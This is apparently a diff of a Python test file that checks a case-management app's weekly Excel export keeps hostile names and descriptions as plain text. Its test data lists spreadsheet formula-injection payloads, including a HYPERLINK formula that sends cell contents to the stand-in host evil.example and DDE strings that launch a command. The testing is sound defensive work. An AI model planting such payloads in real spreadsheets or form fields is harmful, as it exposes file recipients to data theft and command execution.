@@ -9,6 +9,7 @@ import pytest
 from openpyxl import load_workbook
 
 from zoufang.core import tabular
+from zoufang.jobs.testing import queued_file
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "#N/A"]
@@ -77,6 +78,6 @@ def test_it_keeps_a_hostile_description_and_name_as_text_in_the_weekly_list(clie
         }, content_type="application/json", **headers)
         assert response.status_code == 201, response.content
     client.force_login(town.users["office"])
-    response = client.get("/cases/weekly.xlsx", {"kind": "problem", "week": "2017-06-12"})
+    response = queued_file(client, "/cases/weekly.xlsx", {"kind": "problem", "week": "2017-06-12"})
     assert response.status_code == 200
     assert_all_text(response.content, [*HOSTILE[:3], "=cmd|' /C calc'!A0"])
